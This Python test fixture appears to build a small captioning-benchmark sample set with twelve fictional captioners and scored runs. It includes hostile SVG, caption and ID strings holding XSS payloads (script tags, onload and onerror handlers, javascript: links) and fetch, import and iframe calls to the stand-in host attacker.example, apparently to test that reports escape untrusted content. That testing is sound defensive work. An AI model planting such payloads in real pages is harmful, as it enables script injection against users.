"""A small sample set with twelve captioners, strange captions and hostile drawings, scored as a run leaves it."""

from __future__ import annotations

from pathlib import Path

from benchmark.datasets.shapes import generate
from benchmark.predictions import Prediction
from benchmark.samples import Dataset, Sample
from benchmark.scoring import score_run
from benchmark.store import Run, SampleSet, Shard

SCENES = 60
CAPTIONERS = tuple(f"model-{letter}-of-some-size" for letter in "abcdefghijkl")
OUTSIDE = "http://attacker.example"

HOSTILE_SVG = f"""<?xml-stylesheet href="{OUTSIDE}/sheet.css" type="text/css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10"
 onload="window.hacked='onload'">
<style>@import url({OUTSIDE}/import.css); rect {{ fill: url({OUTSIDE}/fill.svg#a) }}</style>
<script>window.hacked = 'script'; fetch('{OUTSIDE}/fetch')</script>
<image href="{OUTSIDE}/image.png" width="5" height="5"/>
<a xlink:href="javascript:window.hacked='link'"><circle cx="5" cy="5" r="4" fill="green"/></a>
<foreignObject width="10" height="10"><body xmlns="http://www.w3.org/1999/xhtml"><img src="{OUTSIDE}/foreign.png"
 onerror="window.hacked='foreign'"/><iframe src="{OUTSIDE}/frame.html"/></body></foreignObject>
</svg>"""
HOSTILE_CAPTION = f"""</script><script>window.hacked='caption'</script><img src="{OUTSIDE}/c.png" onerror="hacked=1">"""
HOSTILE_ID = """"><img src=x onerror="window.hacked='id'"> 'é </title>"""
LONG = "a very long tale of a square " * 40


def samples() -> tuple[Sample, ...]:
    """Scenes in three groups, then a hostile drawing, one that cannot be drawn, a blank one and one that is mended."""
    scenes = [
        Sample(f"scene-{i:03}", one.svg, one.references, ("few", "many", "most")[min(i % 6, 2)])
        for i, one in enumerate(generate(size=SCENES).samples)
    ]
    ns = 'xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"'
    square = f'<svg {ns}><rect width="9" height="9" fill="{{}}"/></svg>'
    return (
        *scenes,
        Sample(HOSTILE_ID, HOSTILE_SVG, ("a green circle", HOSTILE_CAPTION), "<b>odd</b>"),
        Sample("undrawable", "<svg", ("nothing at all",), "<b>odd</b>"),
        Sample("white", square.format("white"), ("a blank page",), "<b>odd</b>"),
        Sample("mended", square.format("1,2,3"), ("a dark square",), "<b>odd</b>"),
    )


def results(folder: Path) -> SampleSet:
    """The sample set in ``folder``, scored; captioners are the better the earlier they stand in the alphabet."""
    dataset = Dataset("made & up", samples(), {"licence": "MIT </script><b>not bold</b>"})
    sample_set = SampleSet.create(folder, dataset, "test")
    for place, name in enumerate(CAPTIONERS):
        run = Run(sample_set.path / name)
        manifest = {
            "schema": 1,
            "fingerprint": f"fp-{place}",
            "identity": {"captioner": {"name": name}},
            "software": {"python": f"3.{10 + place % 2}"},
            "created": f"2026-01-{place + 1:02}",
        }
        run.begin(manifest, Shard(), overwrite=False)
        run.append(Shard(), [_said(place, i, sample) for i, sample in enumerate(dataset.samples)])
        assert score_run(run, dataset, ("bleu", "rouge_l", "cider")) == 0
    sample_set.record_unavailable({"absent": "no <i>weights</i>"})
    return sample_set


def _said(place: int, i: int, sample: Sample) -> Prediction:
    if sample.id == HOSTILE_ID:
        return Prediction(sample.id, HOSTILE_CAPTION, f"user {HOSTILE_CAPTION} assistant {HOSTILE_CAPTION}")
    if place == 2 and i == 5:
        return Prediction(sample.id, "", "", "failed", "RuntimeError: out of <memory>")
    if place == 1 and i == 7:
        return Prediction(sample.id, LONG, LONG)
    if place == 11:
        return Prediction(sample.id, "", "")
    right = i % len(CAPTIONERS) >= place
    caption = sample.references[0] if right else f"a drawing that captioner {place} made up"
    return Prediction(sample.id, caption, caption)
